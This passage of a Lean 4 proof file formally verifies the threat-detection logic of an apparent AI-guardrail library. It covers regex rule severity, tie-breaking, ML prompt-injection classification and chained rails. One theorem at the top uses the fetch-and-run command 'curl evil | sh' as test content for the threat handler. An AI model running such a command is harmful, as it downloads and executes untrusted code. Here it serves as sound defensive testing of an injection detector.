      ⟨ProcStatus.running, [ProcStatus.running]⟩ ∧
    (handleThreat ⟨.running, [.running]⟩ ⟨false, ⟨"input", []⟩, ⟨"output", []⟩⟩
        ⟨3, 0, 0, 0, ⟨0, 0, 0⟩, []⟩ ⟨"curl evil | sh"⟩
        (fun _ => ThreatLevel.high) "looks safe to me").2.1 = false := by
  decide

/-- Shifting the head into the running maximum. -/
theorem listMaxKey_cons (key : α → ℚ) (x y : α) (ys : List α) :
    listMaxKey key x (y :: ys) = listMaxKey key (if key x < key y then y else x) ys := by
  unfold listMaxKey
  simp only [List.foldl_cons]
  by_cases h : key x < key y
  · rw [if_pos h, max_eq_right h.le]
  · rw [if_neg h, max_eq_left (not_lt.mp h)]

/-- The starting element's key never exceeds the running maximum. -/
theorem le_listMaxKey_self (key : α → ℚ) :
    ∀ (xs : List α) (x : α), key x ≤ listMaxKey key x xs := by
  intro xs
  induction xs with
  | nil => intro x; exact le_refl _
  | cons y ys ih =>
    intro x
    rw [listMaxKey_cons]
    by_cases h : key x < key y
    · rw [if_pos h]
      exact le_trans h.le (ih y)
    · rw [if_neg h]
      exact ih x

/-- Every element's key is bounded by the maximum over the list. -/
theorem listMaxKey_is_max (key : α → ℚ) :
    ∀ (xs : List α) (x : α), ∀ y ∈ x :: xs, key y ≤ listMaxKey key x xs := by
  intro xs
  induction xs with
  | nil =>
    intro x y hy
    rw [List.mem_singleton.mp hy]
    exact le_refl _
  | cons z zs ih =>
    intro x y hy
    rw [listMaxKey_cons]
    have hbase : ∀ w, key w ≤ key (if key x < key z then z else x) →
        key y = key w → key y ≤ listMaxKey key (if key x < key z then z else x) zs := by
      intro w hw he
      rw [he]
      exact le_trans hw (le_listMaxKey_self key zs _)
    rcases List.mem_cons.mp hy with hx | hy2
    · refine hbase x ?_ (by rw [hx])
      by_cases h : key x < key z
      · rw [if_pos h]; exact h.le
      · rw [if_neg h]
    · rcases List.mem_cons.mp hy2 with hz | hin
      · refine hbase z ?_ (by rw [hz])
        by_cases h : key x < key z
        · rw [if_pos h]
        · rw [if_neg h]; exact not_lt.mp h
      · exact ih _ y (List.mem_cons_of_mem _ hin)

/-- The key of the Python max equals the maximum key. -/
theorem pyMaxBy_key (key : α → ℚ) :
    ∀ (xs : List α) (x : α), key (pyMaxBy key x xs) = listMaxKey key x xs := by
  intro xs
  induction xs with
  | nil => intro x; rfl
  | cons y ys ih =>
    intro x
    rw [listMaxKey_cons]
    exact ih _

/-- Python max is the first element of the list attaining the maximum key
(ties are broken towards the earlier element). -/
theorem pyMaxBy_eq_find (key : α → ℚ) :
    ∀ (xs : List α) (x : α),
      (x :: xs).find? (fun y => decide (listMaxKey key x xs ≤ key y)) =
        some (pyMaxBy key x xs) := by
  intro xs
  induction xs with
  | nil =>
    intro x
    simp [pyMaxBy, listMaxKey]
  | cons y ys ih =>
    intro x
    rw [listMaxKey_cons]
    by_cases h : key x < key y
    · rw [if_pos h]
      have hx : ¬ (listMaxKey key y ys ≤ key x) :=
        not_le.mpr (lt_of_lt_of_le h (le_listMaxKey_self key ys y))
      rw [List.find?_cons_of_neg _ (by simpa using hx)]
      have h2 := ih y
      rw [show pyMaxBy key x (y :: ys) = pyMaxBy key y ys by
        simp only [pyMaxBy, if_pos h]]
      exact h2
    · rw [if_neg h]
      rw [show pyMaxBy key x (y :: ys) = pyMaxBy key x ys by
        simp only [pyMaxBy, if_neg h]]
      by_cases hx : listMaxKey key x ys ≤ key x
      · rw [List.find?_cons_of_pos _ (by simpa using hx)]
        have h2 := ih x
        rw [List.find?_cons_of_pos _ (by simpa using hx)] at h2
        exact h2
      · rw [List.find?_cons_of_neg _ (by simpa using hx)]
        have hy : ¬ (listMaxKey key x ys ≤ key y) :=
          not_le.mpr (lt_of_le_of_lt (not_lt.mp h) (not_le.mp hx))
        rw [List.find?_cons_of_neg _ (by simpa using hy)]
        have h2 := ih x
        rw [List.find?_cons_of_neg _ (by simpa using hx)] at h2
        exact h2

/-- find? only depends on the predicate's values on the list. -/
theorem find?_congr_on (p q : α → Bool) :
    ∀ (l : List α), (∀ a ∈ l, p a = q a) → l.find? p = l.find? q := by
  intro l
  induction l with
  | nil => intro _; rfl
  | cons a l ih =>
    intro h
    by_cases hp : p a = true
    · rw [List.find?_cons_of_pos _ hp,
        List.find?_cons_of_pos _ ((h a (List.mem_cons_self a l)) ▸ hp)]
    · rw [List.find?_cons_of_neg _ hp,
        List.find?_cons_of_neg _ ((h a (List.mem_cons_self a l)) ▸ hp)]
      exact ih (fun b hb => h b (List.mem_cons_of_mem a hb))

/-- C6: for every rule set and content, the pattern detector returns the
clean zero-confidence signal when no rule matches; otherwise its
confidence is the maximum severity among the matching rules and the
signal is built from the earliest-registered matching rule of that
severity. -/
theorem regex_detector_max_severity_earliest (rules : List DetectionRule)
    (content : String) :
    (rules.filter (fun r => r.search content) = [] →
      RegexDetector.detect rules content =
        { is_threat := false, confidence := 0, method := "regex",
          details := "No patterns matched" }) ∧
    (∀ m ms, rules.filter (fun r => r.search content) = m :: ms →
      (∀ r ∈ rules.filter (fun r => r.search content),
         r.severity ≤ (RegexDetector.detect rules content).confidence) ∧
      (RegexDetector.detect rules content).confidence =
        listMaxKey (fun r => r.severity) m ms ∧
      (m :: ms).find?
          (fun r => decide (r.severity = listMaxKey (fun r => r.severity) m ms)) =
        some (pyMaxBy (fun r => r.severity) m ms) ∧
      RegexDetector.detect rules content =
        { is_threat := true,
          confidence := (pyMaxBy (fun r => r.severity) m ms).severity,
          method := "regex",
          threat_type := (pyMaxBy (fun r => r.severity) m ms).threat_type,
          details := "Rule " ++ (pyMaxBy (fun r => r.severity) m ms).name ++ ": "
            ++ (pyMaxBy (fun r => r.severity) m ms).description }) := by
  constructor
  · intro hempty
    unfold RegexDetector.detect
    rw [hempty]
  · intro m ms hfilter
    have hdet : RegexDetector.detect rules content =
        { is_threat := true,
          confidence := (pyMaxBy (fun r => r.severity) m ms).severity,
          method := "regex",
          threat_type := (pyMaxBy (fun r => r.severity) m ms).threat_type,
          details := "Rule " ++ (pyMaxBy (fun r => r.severity) m ms).name ++ ": "
            ++ (pyMaxBy (fun r => r.severity) m ms).description } := by
      unfold RegexDetector.detect
      rw [hfilter]
    refine ⟨?_, ?_, ?_, hdet⟩
    · intro r hr
      rw [hfilter] at hr
      rw [hdet]
      have := listMaxKey_is_max (fun r => r.severity) ms m r hr
      rw [← pyMaxBy_key (fun r => r.severity) ms m] at this
      exact this
    · rw [hdet]
      exact pyMaxBy_key (fun r => r.severity) ms m
    · rw [← pyMaxBy_eq_find (fun r => r.severity) ms m]
      refine find?_congr_on _ _ (m :: ms) ?_
      intro a ha
      have hle := listMaxKey_is_max (fun r => r.severity) ms m a ha
      by_cases he : a.severity = listMaxKey (fun r => r.severity) m ms
      · simp [he]
      · have h1 : (decide (a.severity = listMaxKey (fun r => r.severity) m ms)) = false := by
          simpa using he
        have h2 : (decide (listMaxKey (fun r => r.severity) m ms ≤ a.severity)) = false := by
          simpa using not_le.mpr (lt_of_le_of_ne hle he)
        rw [h1, h2]

/-- Witness for C6 with two equal-severity matching rules: the tie breaks
to the earliest-registered rule, whose fields build the returned signal. -/
theorem regex_detector_tie_earliest_witness :
    RegexDetector.detect
      [⟨"rule_one", "first", "injection", mkRat 9 10, fun _ => true⟩,
       ⟨"rule_two", "second", "negation", mkRat 9 10, fun _ => true⟩,
       ⟨"rule_three", "third", "destructive", mkRat 1 2, fun _ => true⟩] "x" =
      { is_threat := true, confidence := mkRat 9 10, method := "regex",
        threat_type := "injection", details := "Rule rule_one: first" } :=
  (((regex_detector_max_severity_earliest
      [⟨"rule_one", "first", "injection", mkRat 9 10, fun _ => true⟩,
       ⟨"rule_two", "second", "negation", mkRat 9 10, fun _ => true⟩,
       ⟨"rule_three", "third", "destructive", mkRat 1 2, fun _ => true⟩] "x").2
      ⟨"rule_one", "first", "injection", mkRat 9 10, fun _ => true⟩
      [⟨"rule_two", "second", "negation", mkRat 9 10, fun _ => true⟩,
       ⟨"rule_three", "third", "destructive", mkRat 1 2, fun _ => true⟩]
      rfl).2.2.2).trans (by rfl)

/-- Whenever the ML detector reports a threat, its confidence already
reaches its configured threshold — is_threat is decided against the same
threshold on both label conventions. -/
theorem ml_is_threat_confidence (d : MLDetector) (content : String)
    (h : (d.detect content).is_threat = true) :
    d.confidence_threshold ≤ (d.detect content).confidence := by
  unfold MLDetector.detect at h ⊢
  by_cases hempty : content = "" ∨ pyStrip content = ""
  · rw [if_pos hempty] at h
    simp at h
  · rw [if_neg hempty] at h ⊢
    cases hpipe : d.pipe (pyTake content (d.max_length * 4)) with
    | err e =>
      simp only [hpipe] at h
      simp at h
    | ok pred =>
      simp only [hpipe] at h ⊢
      by_cases hinj : pyUpper pred.label ∈ injectionLabels
      · rw [if_pos hinj] at h ⊢
        exact of_decide_eq_true h
      · rw [if_neg hinj] at h ⊢
        by_cases hsafe : pyUpper pred.label ∈ safeLabels
        · rw [if_pos hsafe] at h ⊢
          exact of_decide_eq_true h
        · rw [if_neg hsafe] at h
          simp at h

/-- C8: with the ML classifier loaded from the configuration, the
orchestrator short-circuits to the ML result exactly when it reports a
threat with confidence at or above the configured threshold — which, the
detector being built from the same configuration, happens exactly when it
reports a threat at all; otherwise the pattern detector runs and the
highest-confidence threat (respectively the first lowest-confidence clean
result) is returned. -/
theorem detection_engine_short_circuit (cfg : DetectorConfig)
    (pipe : String → PipeOutcome) (rules : List DetectionRule) (content : String)
    (huse : cfg.use_ml = true) :
    (((cfg.mlDetector pipe).detect content).is_threat = true →
       cfg.ml_confidence_threshold ≤ ((cfg.mlDetector pipe).detect content).confidence) ∧
    ((((cfg.mlDetector pipe).detect content).is_threat = true ∧
        cfg.ml_confidence_threshold ≤ ((cfg.mlDetector pipe).detect content).confidence) ↔
      ((cfg.mlDetector pipe).detect content).is_threat = true) ∧
    (((cfg.mlDetector pipe).detect content).is_threat = true →
      ∀ rules2, (DetectionEngine.create cfg true pipe rules2).detect content =
        (cfg.mlDetector pipe).detect content) ∧
    (((cfg.mlDetector pipe).detect content).is_threat = false →
      ((RegexDetector.detect rules content).is_threat = true →
        (DetectionEngine.create cfg true pipe rules).detect content =
          RegexDetector.detect rules content) ∧
      ((RegexDetector.detect rules content).is_threat = false →
        (DetectionEngine.create cfg true pipe rules).detect content =
          (if (RegexDetector.detect rules content).confidence <
              ((cfg.mlDetector pipe).detect content).confidence
           then RegexDetector.detect rules content
           else (cfg.mlDetector pipe).detect content))) := by
  refine ⟨fun h => ml_is_threat_confidence _ content h, ?_, ?_, ?_⟩
  · constructor
    · exact fun h => h.1
    · exact fun h => ⟨h, ml_is_threat_confidence _ content h⟩
  · intro h rules2
    have hml : (DetectionEngine.create cfg true pipe rules2).ml_detector =
        some (cfg.mlDetector pipe) := by
      simp [DetectionEngine.create, huse]
    simp only [DetectionEngine.detect, hml]
    rw [if_pos]
    simp only [DetectionEngine.create, h, Bool.true_and, decide_eq_true_eq]
    exact ml_is_threat_confidence _ content h
  · intro hfalse
    have hml : (DetectionEngine.create cfg true pipe rules).ml_detector =
        some (cfg.mlDetector pipe) := by
      simp [DetectionEngine.create, huse]
    have hreg : (DetectionEngine.create cfg true pipe rules).regex_rules = rules := rfl
    constructor
    · intro hrr
      simp only [DetectionEngine.detect, hml, hreg]
      rw [if_neg (by simp [hfalse])]
      simp [selectResult, hfalse, hrr, pyMaxBy, hreg]
    · intro hrrf
      simp only [DetectionEngine.detect, hml, hreg]
      rw [if_neg (by simp [hfalse])]
      simp [selectResult, hfalse, hrrf, pyMinBy, hreg]

/-- Witness for C8: a high-scoring INJECTION prediction above the 0.85
configured threshold makes the engine return the ML result directly. -/
theorem detection_engine_short_circuit_witness :
    (DetectionEngine.create ⟨true, "m", mkRat 85 100, true⟩ true
        (fun _ => .ok ⟨"INJECTION", mkRat 9 10⟩) []).detect "attack" =
      MLDetector.detect
        (DetectorConfig.mlDetector ⟨true, "m", mkRat 85 100, true⟩
          (fun _ => .ok ⟨"INJECTION", mkRat 9 10⟩)) "attack" :=
  ((detection_engine_short_circuit ⟨true, "m", mkRat 85 100, true⟩
      (fun _ => .ok ⟨"INJECTION", mkRat 9 10⟩) [] "attack" rfl).2.2.1 (by decide)) []

/-- Witness for C10 at a concrete two-stage chain whose final content
differs from the input: the run passes and reports the threaded content. -/
theorem rail_chain_modified_content_exact_witness :
    ∃ final,
      threadRails ⟨"abc"⟩
        [⟨"a", fun c _ => .ok { passed := true, modified_content := some (c ++ "x") }⟩,
         ⟨"b", fun _ _ => .ok { passed := true }⟩] "abc" = some final ∧
      ((RailChain.run
          ⟨"c",
            [⟨"a", fun c _ => .ok { passed := true, modified_content := some (c ++ "x") }⟩,
             ⟨"b", fun _ _ => .ok { passed := true }⟩]⟩ "abc" ⟨"abc"⟩).modified_content =
        (if final = "abc" then none else some final)) ∧
      (((RailChain.run
          ⟨"c",
            [⟨"a", fun c _ => .ok { passed := true, modified_content := some (c ++ "x") }⟩,
             ⟨"b", fun _ _ => .ok { passed := true }⟩]⟩ "abc" ⟨"abc"⟩).modified_content).getD
        "abc") = final :=
  rail_chain_modified_content_exact
    ⟨"c",
      [⟨"a", fun c _ => .ok { passed := true, modified_content := some (c ++ "x") }⟩,
       ⟨"b", fun _ _ => .ok { passed := true }⟩]⟩ "abc" ⟨"abc"⟩ (by rfl)

end AegisFlow
